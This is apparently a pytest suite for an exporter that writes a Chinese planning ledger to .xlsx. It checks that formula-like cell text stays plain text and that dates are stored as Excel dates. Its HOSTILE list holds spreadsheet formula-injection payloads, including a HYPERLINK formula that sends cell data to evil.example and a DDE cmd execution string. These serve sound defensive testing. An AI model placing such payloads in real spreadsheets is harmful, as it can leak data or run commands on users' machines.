"""The 台账 .xlsx: no cell is ever a formula, dates are dates; checked by reading the file back and its XML."""

import datetime as dt
import zipfile

import pytest
from openpyxl import load_workbook

from stages.paperwork.exports import DATE_COLUMNS, formula_like, write_ledger
from stages.views.reads import LEDGER_COLUMNS

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
           "＝1+1", "＋1", "－1", "＠SUM(A1)", "  =1+1", "=cmd|' /C calc'!A0"]


def _row(title, **over):
    row = dict(zip(LEDGER_COLUMNS, ["sp-01", "专项规划", title, "区商务委", "", "立项建议", "前期研究", "区商务委",
                                    "2019-09-30", "2019-10-30", "2019-10-08", "已通过", 0, "完成"]))
    row.update(over)
    return [row[c] for c in LEDGER_COLUMNS]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_written_as_text(tmp_path, text):
    assert formula_like(text)
    path = write_ledger([_row(text, 配合单位=text, 审核结果=text)], tmp_path / "l.xlsx", "台账")
    ws = load_workbook(path)["台账"]
    for col in ("名称", "配合单位", "审核结果"):
        cell = ws.cell(2, LEDGER_COLUMNS.index(col) + 1)
        assert cell.value == text  # exactly as typed: no apostrophe added to the text
        assert cell.data_type == "s"
        assert cell.quotePrefix  # Excel keeps it text when someone edits the cell
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet


def test_ordinary_text_is_left_alone(tmp_path):
    path = write_ledger([_row("长宁区商务发展“十四五”规划")], tmp_path / "l.xlsx", "台账")
    cell = load_workbook(path)["台账"].cell(2, LEDGER_COLUMNS.index("名称") + 1)
    assert cell.value == "长宁区商务发展“十四五”规划" and cell.data_type == "s" and not cell.quotePrefix


def test_ledger_dates_are_excel_dates(tmp_path):
    path = write_ledger([_row("x"), _row("y", 报送日期="")], tmp_path / "l.xlsx", "台账")
    ws = load_workbook(path)["台账"]
    for col in DATE_COLUMNS:
        cell = ws.cell(2, LEDGER_COLUMNS.index(col) + 1)
        assert cell.data_type == "d" and cell.is_date, col
        assert cell.number_format == "yyyy-mm-dd"
    assert ws.cell(2, LEDGER_COLUMNS.index("计划完成") + 1).value.date() == dt.date(2019, 9, 30)
    assert ws.cell(3, LEDGER_COLUMNS.index("报送日期") + 1).value is None  # not submitted: an empty cell
    assert ws.cell(2, LEDGER_COLUMNS.index("逾期工作日") + 1).data_type == "n"


def test_a_real_ledger_has_no_formula_and_real_dates(tmp_path, mini_run, mini):
    from stages.engine import propose
    from stages.views.reads import ledger_rows

    propose(mini_run, mini, dept="区商务委", title='=HYPERLINK("http://x"&A1,"点击查看")', as_of="2019-07-01")
    mini_run.commit()
    path = write_ledger(ledger_rows(mini_run, mini, "2019-07-02"), tmp_path / "台账.xlsx", "台账")
    ws = load_workbook(path)["台账"]
    titles = [c for c in ws.iter_rows(min_row=2) if str(c[2].value).startswith("=HYPERLINK")]
    assert titles and all(r[2].data_type == "s" for r in titles)
    due = [r[LEDGER_COLUMNS.index("计划完成")] for r in ws.iter_rows(min_row=2)]
    assert due and all(c.is_date for c in due)
